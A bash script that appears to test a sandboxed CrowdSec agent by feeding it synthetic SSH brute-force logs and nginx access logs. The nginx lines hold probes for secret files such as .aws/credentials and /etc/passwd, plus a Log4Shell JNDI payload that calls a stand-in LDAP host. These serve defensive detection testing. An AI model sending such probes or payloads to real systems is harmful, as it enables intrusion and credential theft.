#!/bin/bash
# Run inside `unshare -n`: crowdsec 1.4.6 (Debian) agent + local API on 127.0.0.1, log file crowdsec.log.
set -u
export TZ=UTC
W=/tmp/w31a/crowdsec
SRC=$(dirname "$(readlink -f "$0")")
ip link set lo up
rm -rf $W/data/* $W/crowdsec.log $W/crowdsec_api.log $W/logs/*
mkdir -p $W/data $W/logs $W/acquis.d
cp $SRC/crowdsec/config.yaml $SRC/crowdsec/acquis.yaml $W/
C="-c $W/config.yaml"
# a machine for the agent, random password, credentials file in scratch space (removed at the end)
cscli $C machines add w31a-agent --auto --force -f $W/local_api_credentials.yaml > $W/cscli.txt 2>&1
: > $W/logs/auth.log; : > $W/logs/nginx-access.log
cp /usr/share/crowdsec/data/* $W/data/
# run 1: Debian's acquisition as shipped, with its journalctl source: no journal here, crowdsec stops (fatal)
crowdsec $C > $W/stdout.txt 2>&1
# run 2: the same without the journalctl source
sed -i '/^source: journalctl/,/^---/d' $W/acquis.yaml
crowdsec $C >> $W/stdout.txt 2>&1 &
PID=$!
sleep 8
now() { date -u '+%b %e %H:%M:%S'; }
for i in 1 2 3 4 5 6 7 8; do
  u=admin; [ $i -le 2 ] && u=jürgen
  echo "$(now) vm sshd[4$i$i$i]: Failed password for invalid user $u from 203.0.113.7 port 5$i$i$i$i ssh2" >> $W/logs/auth.log
  sleep 0.2
done
echo "$(now) vm sshd[4999]: Invalid user 日本 from 203.0.113.8 port 50022" >> $W/logs/auth.log
echo "dies ist keine Logzeile" >> $W/logs/auth.log
ts() { date -u '+%d/%b/%Y:%H:%M:%S +0000'; }
for p in .env .git/config wp-config.php.bak backup.sql admin/ phpmyadmin/ .aws/credentials server-status config.php.swp \
         "K%C3%B6ln/../../etc/passwd" db.sqlite .htpasswd; do
  echo "198.51.100.23 - - [$(ts)] \"GET /$p HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 (Köln; 日本)\"" >> $W/logs/nginx-access.log
  sleep 0.1
done
echo "198.51.100.99 - - [$(ts)] \"GET / HTTP/1.1\" 200 612 \"-\" \"\${jndi:ldap://198.51.100.99:1389/a}\"" >> $W/logs/nginx-access.log
sleep 6
cscli $C decisions list >> $W/cscli.txt 2>&1
cscli $C decisions add --ip 192.0.2.44 --duration 1h --reason "manuell gesperrt: Köln" >> $W/cscli.txt 2>&1
cscli $C decisions add --ip 999.1.1.1 >> $W/cscli.txt 2>&1
cscli $C decisions delete --ip 192.0.2.44 >> $W/cscli.txt 2>&1
cscli $C alerts list >> $W/cscli.txt 2>&1
echo "$(now) vm sshd[5001]: Failed password for root from 203.0.113.9 port 40000 ssh2" >> $W/logs/auth.log
sleep 2
kill -TERM $PID
wait $PID
echo "exit $?" >> $W/cscli.txt
cscli $C machines delete w31a-agent >> $W/cscli.txt 2>&1
rm -f $W/local_api_credentials.yaml
